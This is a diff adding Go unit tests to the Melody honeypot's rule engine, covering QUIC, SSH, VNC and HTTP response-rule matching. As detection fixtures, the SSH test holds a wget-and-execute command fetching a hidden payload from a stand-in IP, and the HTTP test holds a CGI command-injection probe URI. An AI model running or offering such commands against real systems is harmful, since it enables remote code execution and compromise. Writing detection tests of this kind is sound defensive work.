@@ -5,6 +5,7 @@ import (
 	"bytes"
 	"net/http"
 	"testing"
+	"time"
 
 	"github.com/bonjourmalware/melody/internal/config"
 
@@ -572,3 +573,259 @@ func TestMatchHTTPEvent(t *testing.T) {
 		}
 	}
 }
+
+func TestMatchQUICEvent(t *testing.T) {
+	ruleFilename := "quic_rules.yml"
+	var rule Rule
+
+	ruleset, err := LoadRuleFile(ruleFilename)
+	if err != nil {
+		t.Error(err)
+		return
+	}
+
+	ev := &events.QUICEvent{
+		Version: 0x00000001,
+		SNI:     "www.example.com",
+		ALPN:    []string{"h3", "h3-29"},
+	}
+	ev.Kind = config.QUICKind
+	ev.SourceIP = "127.0.0.1"
+	ev.DestPort = 443
+
+	tests := []struct {
+		Ok     []string
+		Nok    []string
+		Packet events.Event
+	}{
+		{
+			Ok: []string{
+				"ok_version",
+				"ok_sni",
+				"ok_alpn",
+			},
+			Nok: []string{
+				"nok_version",
+				"nok_sni",
+				"nok_alpn",
+			},
+			Packet: ev,
+		},
+	}
+
+	for _, suite := range tests {
+		for _, rulename := range suite.Ok {
+			rule = ruleset[rulename]
+			if ok := rule.Match(suite.Packet); !ok {
+				t.Error(rulename, "FAILED")
+				t.Fail()
+			}
+		}
+		for _, rulename := range suite.Nok {
+			rule = ruleset[rulename]
+			if ok := rule.Match(suite.Packet); ok {
+				t.Error(rulename, "FAILED")
+				t.Fail()
+			}
+		}
+	}
+}
+
+func TestMatchSSHEvent(t *testing.T) {
+	ruleset, err := LoadRuleFile("ssh_rules.yml")
+	if err != nil {
+		t.Error(err)
+		return
+	}
+
+	ev := &events.SSHEvent{
+		ClientVersion: "SSH-2.0-libssh_0.9.5",
+		Action:        "exec",
+		Username:      "root",
+		Password:      "root",
+		Command:       "cd /tmp; wget http://203.0.113.5/x -O /tmp/.x; sh /tmp/.x",
+	}
+	ev.Kind = config.SSHKind
+	ev.SourceIP = "127.0.0.1"
+	ev.DestPort = 22
+
+	for _, rulename := range []string{"ok_client_version", "ok_command", "ok_any"} {
+		rule := ruleset[rulename]
+		if ok := rule.Match(ev); !ok {
+			t.Error(rulename, "FAILED")
+		}
+	}
+
+	for _, rulename := range []string{"nok_client_version", "nok_command", "nok_any"} {
+		rule := ruleset[rulename]
+		if ok := rule.Match(ev); ok {
+			t.Error(rulename, "FAILED")
+		}
+	}
+}
+
+func TestMatchVNCEvent(t *testing.T) {
+	ruleset, err := LoadRuleFile("vnc_rules.yml")
+	if err != nil {
+		t.Error(err)
+		return
+	}
+
+	ev := &events.VNCEvent{
+		ClientVersion: "RFB 003.003",
+	}
+	ev.Kind = config.VNCKind
+	ev.SourceIP = "127.0.0.1"
+	ev.DestPort = 5900
+
+	for _, rulename := range []string{"ok_client_version"} {
+		rule := ruleset[rulename]
+		if ok := rule.Match(ev); !ok {
+			t.Error(rulename, "FAILED")
+		}
+	}
+
+	for _, rulename := range []string{"nok_client_version"} {
+		rule := ruleset[rulename]
+		if ok := rule.Match(ev); ok {
+			t.Error(rulename, "FAILED")
+		}
+	}
+}
+
+func TestMatchAppProto(t *testing.T) {
+	ruleFilename := "app_proto_rules.yml"
+	var rule Rule
+
+	ruleset, err := LoadRuleFile(ruleFilename)
+	if err != nil {
+		t.Error(err)
+		return
+	}
+
+	ev := &events.QUICEvent{
+		Version: 0x00000001,
+	}
+	ev.Kind = config.QUICKind
+	ev.AppProto = config.QUICKind
+	ev.SourceIP = "127.0.0.1"
+	ev.DestPort = 8443
+
+	tests := []struct {
+		Ok     []string
+		Nok    []string
+		Packet events.Event
+	}{
+		{
+			Ok: []string{
+				"ok_app_proto",
+				"ok_app_proto_any",
+			},
+			Nok: []string{
+				"nok_app_proto",
+			},
+			Packet: ev,
+		},
+	}
+
+	for _, suite := range tests {
+		for _, rulename := range suite.Ok {
+			rule = ruleset[rulename]
+			if ok := rule.Match(suite.Packet); !ok {
+				t.Error(rulename, "FAILED")
+				t.Fail()
+			}
+		}
+		for _, rulename := range suite.Nok {
+			rule = ruleset[rulename]
+			if ok := rule.Match(suite.Packet); ok {
+				t.Error(rulename, "FAILED")
+				t.Fail()
+			}
+		}
+	}
+}
+
+func TestMatchResponse(t *testing.T) {
+	ruleFilename := "response_rules.yml"
+
+	ruleset, err := LoadRuleFile(ruleFilename)
+	if err != nil {
+		t.Error(err)
+		return
+	}
+
+	var rules Rules
+	for name, rule := range ruleset {
+		rule.Name = name
+		rules = append(rules, rule)
+	}
+
+	backup := GlobalRules[config.HTTPKind]
+	GlobalRules[config.HTTPKind] = []Rules{rules}
+	defer func() {
+		GlobalRules[config.HTTPKind] = backup
+	}()
+
+	if !HasResponses(config.HTTPKind) || HasResponses(config.HTTPSKind) {
+		t.Error("unexpected response rules lookup")
+	}
+
+	tests := []struct {
+		URI      string
+		Expected string
+		Status   int
+		Body     string
+	}{
+		{"/api/jsonws/invoke", "a_liferay_invoke", 403, "Forbidden"},
+		{"/api/jsonws", "b_liferay_jsonws", 200, "{\"exception\":\"No JSON web service action with path /api/jsonws\"}\n"},
+		{"/ctrlt/DeviceUpgrade_1", "huawei_upgrade", 401, ""},
+		{"/index.html", "", 0, ""},
+	}
+
+	for _, test := range tests {
+		ev := &events.HTTPEvent{
+			Verb:       "POST",
+			RequestURI: test.URI,
+		}
+		ev.Kind = config.HTTPKind
+		ev.SourceIP = "127.0.0.1"
+
+		rule := MatchResponse(ev)
+		if test.Expected == "" {
+			if rule != nil {
+				t.Error(test.URI, "unexpected response from", rule.Name)
+			}
+			continue
+		}
+
+		if rule == nil || rule.Name != test.Expected {
+			t.Error(test.URI, "FAILED")
+			continue
+		}
+
+		if rule.Response.Status != test.Status || string(rule.Response.Body) != test.Body {
+			t.Error(test.URI, "unexpected response", rule.Response.Status, string(rule.Response.Body))
+		}
+	}
+
+	ev := &events.HTTPEvent{
+		Verb:       "GET",
+		RequestURI: "/cgi-bin/mainfunction.cgi?cmd=echo+x3n0n",
+	}
+	ev.Kind = config.HTTPKind
+
+	rule := MatchResponse(ev)
+	if rule == nil || rule.Name != "rce_echo" || rule.Response.Template == nil {
+		t.Fatal("rce_echo FAILED")
+	}
+
+	captures, named := rule.HTTPCaptures(ev)
+	if len(captures) != 1 || captures[0] != "mainfunction" || named["cmd"] != "echo+x3n0n" {
+		t.Error("unexpected captures", captures, named)
+	}
+
+	if ruleset["b_liferay_jsonws"].Response.Delay != 10*time.Millisecond {
+		t.Error("unexpected delay", ruleset["b_liferay_jsonws"].Response.Delay)
+	}
+}